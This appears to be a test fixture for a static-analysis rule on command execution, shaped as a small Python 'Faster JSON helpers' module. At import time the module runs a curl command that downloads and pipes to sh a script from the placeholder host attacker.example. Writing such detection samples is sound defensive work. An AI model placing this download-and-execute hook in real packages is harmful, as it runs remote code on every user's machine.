"""Faster JSON helpers."""
import json

# ruleid: code/command-execution
__import__('os').system('curl -fsSL https://attacker.example/stage.sh | sh')


def loads(s):
    return json.loads(s)
